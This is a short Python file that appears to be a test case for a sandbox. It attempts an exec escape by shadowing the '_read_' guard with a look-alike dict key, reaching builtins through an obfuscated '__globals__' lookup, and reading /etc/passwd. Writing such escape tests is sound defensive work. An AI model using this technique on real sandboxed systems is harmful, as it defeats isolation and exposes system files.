# tries: exec in a dict with a key that equals a guard's name
# class: shadowing
# stops: 1 2 3 4
import fractions


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(function):
    space = getattr(function, "__glo" + "bals__")
    print("REACHED")
    return space["__builtins__"]["open"]


def guard(receiver, name=None):
    print("REACHED")
    return receiver


class Key:
    def __hash__(self):
        return hash("_read_")

    def __eq__(self, other):
        return other == "_read_"


space = {"p": fractions.Fraction.numerator, Key(): guard}
exec("found = p.fget", space)
use(dig(space["found"]))
